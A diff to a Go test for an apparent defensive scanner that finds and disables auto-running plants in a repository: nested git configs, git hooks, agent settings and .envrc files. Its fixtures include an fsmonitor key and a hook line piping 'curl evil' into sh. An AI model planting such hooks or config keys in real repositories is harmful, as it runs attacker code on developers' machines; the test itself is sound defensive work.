@@ -46,15 +46,30 @@ func TestPlants(t *testing.T) {
 	}
 	report := strings.Join(got, "\n")
 	for _, want := range []string{
-		"vendor/lib/.git/config: fsmonitor = touch /tmp/pwned",
+		"vendor/lib/.git/config: keys that are not inert: core.fsmonitor = touch /tmp/pwned",
 		"vendor/lib/.git/hooks/post-checkout: a git hook: #!/bin/sh curl evil | sh",
-		".claude: project settings", "sub/.envrc: project settings", "wt/.git: a pointer",
+		".claude: project settings", "sub/.envrc: project settings", "wt/.git: a .git file pointing at",
 	} {
 		if !strings.Contains(report, want) {
 			t.Errorf("the report lacks %q:\n%s", want, report)
 		}
 	}
+	if strings.Contains(report, "fresh/") {
+		t.Errorf("a plain git init was taken for a plant:\n%s", report)
+	}
+	// The nested config is disabled, and one of its inert keys written in
+	// its place, so git still works there (stricter than the first guard,
+	// which left the repository without a config).
+	if b, err := os.ReadFile(filepath.Join(root, "vendor/lib/.git/config")); err != nil || strings.Contains(string(b), "fsmonitor") {
+		t.Errorf("the nested config now: %q %v", b, err)
+	}
 	for _, gone := range []string{"vendor/lib/.git/config", "vendor/lib/.git/hooks/post-checkout", ".claude", "sub/.envrc", "wt/.git"} {
+		if gone == "vendor/lib/.git/config" {
+			if _, err := os.Lstat(filepath.Join(root, gone+Disabled)); err != nil {
+				t.Errorf("%s was not kept as %s: %v", gone, gone+Disabled, err)
+			}
+			continue
+		}
 		if _, err := os.Lstat(filepath.Join(root, gone)); err == nil {
 			t.Errorf("%s is still in place", gone)
 		}
@@ -63,7 +78,7 @@ func TestPlants(t *testing.T) {
 		}
 	}
 	for _, kept := range []string{"old/.vscode/settings.json", "main.go", "vendor/lib/.git/hooks/pre-push.sample", "fresh/.git/config"} {
-		if kept == "fresh/.git/config" && !exists(filepath.Join(root, "fresh")) {
+		if _, err := os.Lstat(filepath.Join(root, "fresh")); kept == "fresh/.git/config" && err != nil {
 			continue
 		}
 		if _, err := os.Lstat(filepath.Join(root, kept)); err != nil {
